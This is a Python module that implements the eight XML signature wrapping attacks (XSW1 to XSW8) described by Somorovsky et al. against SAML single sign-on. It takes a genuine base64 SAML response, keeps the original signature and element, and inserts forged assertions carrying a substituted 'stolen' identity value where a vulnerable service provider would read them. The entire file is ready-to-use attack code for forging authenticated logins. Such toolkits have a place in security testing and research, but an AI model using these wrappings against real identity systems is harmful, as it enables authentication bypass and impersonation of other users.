"""XML signature wrapping: the eight ways of Somorovsky et al. (USENIX Security 2012), built from a real response.

Each keeps a genuine signature and its genuine element somewhere, and puts a forged one where it would be read.
"""

import base64
from copy import deepcopy

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
STOLEN = "LILLE$0000666"


def opened(answer):
    return etree.fromstring(base64.b64decode(answer))


def closed(root):
    return base64.b64encode(etree.tostring(root)).decode()


def assertion_of(root):
    return root.find(f"{SAML}Assertion")


def signature_of(element):
    return element.find(f"{DS}Signature")


def without_signature(element):
    """A copy that is not signed itself."""
    copy = deepcopy(element)
    copy.remove(signature_of(copy))
    return copy


def forged(assertion):
    """A copy of an assertion that says another key, under another identifier; its signature stays."""
    copy = deepcopy(assertion)
    copy.set("ID", "_forged")
    for value in copy.iter(f"{SAML}AttributeValue"):
        value.text = STOLEN
    return copy


def _evil_response(root):
    evil = deepcopy(root)
    evil.set("ID", "_evil")
    for value in evil.iter(f"{SAML}AttributeValue"):
        value.text = STOLEN
    return evil


def xsw1(root):
    evil = _evil_response(root)
    signature_of(evil).append(without_signature(root))
    return evil


def xsw2(root):
    evil = _evil_response(root)
    signature = signature_of(evil)
    signature.addprevious(without_signature(root))
    return evil


def _unsigned_response(root):
    """The same with the assertion's signature only, as many identity providers send it."""
    return without_signature(root)


def xsw3(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    genuine.addprevious(without_signature(forged(genuine)))
    return out


def xsw4(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    evil = without_signature(forged(genuine))
    out.replace(genuine, evil)
    evil.append(genuine)
    return out


def xsw5(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    out.replace(genuine, forged(genuine))
    out.append(without_signature(genuine))
    return out


def xsw6(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    evil = forged(genuine)
    out.replace(genuine, evil)
    signature_of(evil).append(without_signature(genuine))
    return out


def xsw7(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    evil = forged(genuine)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(without_signature(evil))
    genuine.addprevious(extensions)
    return out


def xsw8(root):
    out = _unsigned_response(root)
    genuine = assertion_of(out)
    evil = forged(genuine)
    out.replace(genuine, evil)
    container = etree.SubElement(signature_of(evil), f"{DS}Object")
    container.append(without_signature(genuine))
    return out


WRAPPINGS = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
